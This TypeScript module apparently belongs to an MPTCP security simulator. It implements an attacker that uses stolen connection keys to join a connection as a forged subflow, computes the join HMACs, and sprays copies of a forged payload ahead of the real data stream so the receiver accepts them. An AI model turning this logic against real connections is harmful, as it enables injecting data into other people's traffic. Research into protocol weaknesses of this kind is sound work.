/**
 * A subflow the attacker opens itself, from its own address, into a
 * connection whose keys it read (RFC 7430 §5, RFC 6181 §6.2): SYN+MP_JOIN
 * with the peer's token, the third ACK's HMAC computed from both keys and
 * both nonces, then data segments mapped from the data sequence number the
 * peer's fourth ACK says it expects next: by the time they arrive the real
 * stream has moved on, so it sprays copies further ahead, and the peer
 * keeps whichever copy reaches a data sequence number first (RFC 8684
 * §3.3.1 leaves duplicates to the receiver). Every check is the peer's.
 *
 * The SYN/ACK's truncated HMAC also tells whether the peer binds join
 * HMACs to addresses (the address-bound-join-hmac what-if): the attacker
 * checks both forms and answers in the one that matched, with its own,
 * real address.
 */
import { hex32, hex64 } from '../core/hex.ts';
import { deriveFromKey, joinAckHmac, joinSynAckHmac, type JoinAddresses, type MptcpVersion } from '../crypto/mptcp-crypto.ts';
import { dssChecksum } from '../wire/dss-checksum.ts';
import { formatEndpoint, type IpAddress } from '../wire/ip-address.ts';
import { TCP_FLAG } from '../wire/tcp-header.ts';
import type { TcpOption } from '../wire/tcp-options.ts';
import { craftSegment } from './craft.ts';
import type { Endpoint } from './relay.ts';
import type { AttackContext, ObservedPacket } from './strategy.ts';

export interface JoinTarget {
  /** The connection's end it joins (the server, as a client's subflow would). */
  peer: Endpoint;
  version: MptcpVersion;
  /** The key of the side it impersonates, and the peer's. */
  ownKey: bigint;
  peerKey: bigint;
  /** The connection uses DSS checksums. */
  checksums: boolean;
}

type Phase = 'idle' | 'syn-sent' | 'established' | 'done';

/** Copies of the forged data it sends, and how far apart in the data sequence space. */
const COPIES = 8;
const STRIDE = 16_384;

export class OwnJoin {
  private phase: Phase = 'idle';
  private readonly isn: number;
  private readonly port: number;
  private readonly nonce: number;
  private peerIsn = 0;
  private peerNonce = 0;
  private bound: JoinAddresses | undefined;

  constructor(
    ctx: AttackContext,
    private readonly own: IpAddress,
    private readonly target: JoinTarget,
    /** The bytes it puts into the connection once joined. */
    private readonly payload: Uint8Array,
  ) {
    this.isn = ctx.rng.u32();
    this.port = 32768 + ctx.rng.below(28232);
    this.nonce = ctx.rng.u32();
  }

  get joined(): boolean {
    return this.phase === 'established' || this.phase === 'done';
  }

  open(ctx: AttackContext): void {
    const t = this.target;
    const token = deriveFromKey(t.version, t.peerKey).token;
    const options: TcpOption[] = [{ kind: 'mss', mss: 1460 }, { kind: 'mp-join-syn', backup: false, addressId: 7, token, nonce: this.nonce, reserved: 0 }];
    this.phase = 'syn-sent';
    this.send(ctx, this.isn, 0, TCP_FLAG.SYN, options, `SYN+MP_JOIN to ${formatEndpoint(t.peer.addr, t.peer.port)} with the token ${hex32(token)} it derived from the key it read`);
  }

  /** A packet to its own address; false when it is not for this subflow. */
  receive(ctx: AttackContext, p: ObservedPacket): boolean {
    const h = p.decoded.tcp!.header;
    if (h.dstPort !== this.port || h.srcPort !== this.target.peer.port) return false;
    if (this.phase === 'syn-sent' && h.flags & TCP_FLAG.SYN && h.flags & TCP_FLAG.ACK) {
      const sa = h.options.find((o) => o.kind === 'mp-join-syn-ack');
      if (!sa) {
        ctx.act({ kind: 'attacker-join-refused', packet: p.id }, [p.id]);
        this.phase = 'done';
        return true;
      }
      this.peerIsn = h.seq;
      this.peerNonce = sa.nonce;
      const t = this.target;
      const bound: JoinAddresses = { initiator: this.own, responder: t.peer.addr };
      const plain = joinSynAckHmac(ctx.mac, t.peerKey, t.ownKey, sa.nonce, this.nonce);
      this.bound = plain === sa.truncatedHmac ? undefined : joinSynAckHmac(ctx.mac, t.peerKey, t.ownKey, sa.nonce, this.nonce, bound) === sa.truncatedHmac ? bound : undefined;
      const hmac = joinAckHmac(ctx.mac, t.ownKey, t.peerKey, this.nonce, this.peerNonce, this.bound);
      this.phase = 'established';
      this.send(ctx, this.isn + 1, this.peerIsn + 1, TCP_FLAG.ACK, [joinAckOption(ctx, hmac, deriveFromKey(t.version, t.peerKey).token, this.nonce)], `third ACK with the join HMAC it computed from both keys and nonces${this.bound ? ' (bound to the addresses, as the SYN/ACK showed)' : ''}`);
      return true;
    }
    if (this.phase === 'established' && !(h.flags & TCP_FLAG.SYN)) {
      const dss = h.options.find((o) => o.kind === 'dss');
      if (!dss || dss.dataAck === undefined) return true;
      // The fourth ACK: its DATA_ACK is the next data sequence number the peer expects.
      this.phase = 'done';
      sendForgedData(ctx, { own: this.own, port: this.port, peer: this.target.peer, isn: this.isn, peerIsn: this.peerIsn, checksums: this.target.checksums, note: ` (key ${hex64(this.target.ownKey)} impersonated)` }, this.payload, dss.dataAck64 ? dss.dataAck : expandDataAck(ctx, dss.dataAck));
      return true;
    }
    return true;
  }

  private send(ctx: AttackContext, seq: number, ack: number, flags: number, options: TcpOption[], why: string): void {
    const t = this.target;
    const bytes = craftSegment({ src: this.own, dst: t.peer.addr, srcPort: this.port, dstPort: t.peer.port, seq, ack, flags, window: 1024, options });
    ctx.inject(bytes, `${why} (key ${hex64(t.ownKey)} impersonated)`, { fromHome: true });
  }
}

/** A subflow the attacker got joined from its own address. */
export interface JoinedSubflow {
  own: IpAddress;
  port: number;
  peer: Endpoint;
  /** Its ISN and the peer's. */
  isn: number;
  peerIsn: number;
  checksums: boolean;
  /** Appended to each packet's note. */
  note: string;
}

/**
 * After the peer's fourth ACK (`acked`: its DATA_ACK, the next data
 * sequence number it expects): copies of `payload` mapped on the grid of
 * the real stream's chunks (see the file comment), so one is kept.
 */
export function sendForgedData(ctx: AttackContext, j: JoinedSubflow, payload0: Uint8Array, acked: bigint): void {
  const { base, step, chunk } = grid(ctx, j.peer, acked);
  // Each copy fills a whole chunk of the real stream, so the receiver keeps it rather than the real one.
  const payload = chunk > 0 ? Uint8Array.from({ length: chunk }, (_, k) => payload0[k % payload0.length]!) : payload0;
  const len = payload.length;
  for (let i = 0; i < COPIES; i++) {
    const dsn = base + BigInt(i) * step;
    const ssn = 1 + i * len;
    const why = i === 0 ? `${len} bytes mapped at DSN ${dsn}, ${dsn === acked ? 'the DATA_ACK of the fourth ACK' : 'where a chunk of the real stream will start'}` : `the same ${len} bytes ${Number(dsn - base)} bytes further on (DSN ${dsn})`;
    // A chunk may be larger than a segment (Linux maps a whole socket buffer, ~31 kB, with one DSS): it goes out
    // in segments that fit the path, each mapping its own part, as the engine's own sender maps them.
    const most = j.peer.addr.family === 6 ? FORGED_SEGMENT_BYTES - 20 : FORGED_SEGMENT_BYTES;
    for (let off = 0; off < len; off += most) {
      const piece = payload.subarray(off, Math.min(len, off + most));
      const mapping = { dsn: dsn + BigInt(off), ssn: ssn + off, dataLength: piece.length, ...(j.checksums ? { checksum: dssChecksum(dsn + BigInt(off), ssn + off, piece.length, piece) } : {}) };
      const bytes = craftSegment({ src: j.own, dst: j.peer.addr, srcPort: j.port, dstPort: j.peer.port, seq: j.isn + ssn + off, ack: j.peerIsn + 1, flags: TCP_FLAG.ACK | TCP_FLAG.PSH, window: 1024, options: [{ kind: 'dss', dataFin: false, dataAck64: false, dsn64: true, reserved: 0, mapping }], payload: piece });
      ctx.inject(bytes, `${off === 0 ? why : `its bytes ${off}..${off + piece.length} (DSN ${dsn + BigInt(off)})`}${j.note}`, { fromHome: true });
    }
  }
}

/** The most payload a forged data segment carries over IPv4 (20 bytes less over IPv6): what the engine's own senders put in one with a DSS, on a 1500-byte path. */
const FORGED_SEGMENT_BYTES = 1424;

/**
 * Where its copies go: on the grid of the real sender's chunks (the DSN
 * after the last mapping it saw, plus whole chunks), from the DATA_ACK on,
 * so a copy waiting out of order is exactly the next data when the stream
 * reaches it. Without a grid, at the DATA_ACK and every STRIDE bytes.
 */
function grid(ctx: AttackContext, peer: Endpoint, acked: bigint): { base: bigint; step: bigint; chunk: number } {
  for (const f of ctx.knowledge.flows.values()) {
    if (f.nextDsn === null || f.mappingLength === 0 || f.dst.family !== peer.addr.family) continue;
    if (formatEndpoint(f.dst, f.dstPort) !== formatEndpoint(peer.addr, peer.port)) continue;
    const chunk = BigInt(f.mappingLength);
    const ahead = acked > f.nextDsn ? (acked - f.nextDsn + chunk - 1n) / chunk : 0n;
    return { base: f.nextDsn + ahead * chunk, step: chunk * BigInt(Math.max(1, Math.round(STRIDE / f.mappingLength))), chunk: f.mappingLength };
  }
  return { base: acked, step: BigInt(STRIDE), chunk: 0 };
}

/** A 32-bit DATA_ACK, completed with the high bits of the DSNs it saw. */
export function expandDataAck(ctx: AttackContext, ack32: bigint): bigint {
  let high = 0n;
  for (const f of ctx.knowledge.flows.values()) if (f.nextDsn !== null) high = f.nextDsn & ~0xffffffffn;
  return high | (ack32 & 0xffffffffn);
}

/**
 * The third ACK's MP_JOIN as the hosts expect it: with the stateless-join
 * what-if it repeats the token and nonce of the SYN and, in its reserved
 * bits, the SYN's address ID (7, as this attacker's joins use) and backup flag.
 */
export function joinAckOption(ctx: AttackContext, hmac: Uint8Array, token: number, nonce: number): TcpOption {
  return ctx.statelessJoin ? { kind: 'mp-join-ack', hmac, reserved: 7, stateless: { token, nonce } } : { kind: 'mp-join-ack', hmac, reserved: 0 };
}
